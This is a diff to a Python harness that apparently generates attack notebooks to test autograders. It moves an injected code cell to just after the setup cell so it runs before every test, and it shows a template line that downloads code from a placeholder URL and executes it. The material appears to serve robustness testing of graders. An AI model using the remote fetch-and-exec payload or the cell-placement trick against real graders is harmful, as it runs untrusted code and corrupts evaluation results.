@@ -166,7 +166,7 @@ exec(urllib.request.urlopen('__URL__', timeout=5).read().decode(), globals())
 class Attack:
     name: str
     base: str  # "blank", "solution" or "wrong-<name>"
-    code: str  # a cell added at the end of the submission
+    code: str  # a cell added after the setup cell
     what: str
 
 
@@ -201,8 +201,11 @@ def attack_notebook(attack: Attack, base: dict, name: str, repo: str, url: str) 
                                                             "locked": True, "solution": False,
                                                             "schema_version": 3}}})
         return notebook
-    notebook["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "metadata": {},
-                              "source": code})
+    # Right after the setup cell, so that it runs before every test in a grader that runs the notebook
+    # top to bottom (the harness runs it in the sandbox wherever it stands).
+    first_code = next(i for i, c in enumerate(notebook["cells"]) if c["cell_type"] == "code")
+    notebook["cells"].insert(first_code + 1, {"cell_type": "code", "execution_count": None, "outputs": [],
+                                              "metadata": {}, "source": code})
     return notebook
 
 
